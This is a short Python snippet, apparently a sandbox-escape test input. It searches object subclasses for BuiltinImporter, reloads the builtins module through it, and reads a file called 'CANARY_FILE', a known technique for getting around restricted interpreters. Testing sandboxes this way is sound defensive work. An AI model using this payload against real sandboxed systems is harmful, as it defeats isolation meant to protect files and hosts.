# Looks for a loader among all classes.
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == 'BuiltinImporter':
        out = kind.load_module
print(out('builtins').open('CANARY_FILE').read())
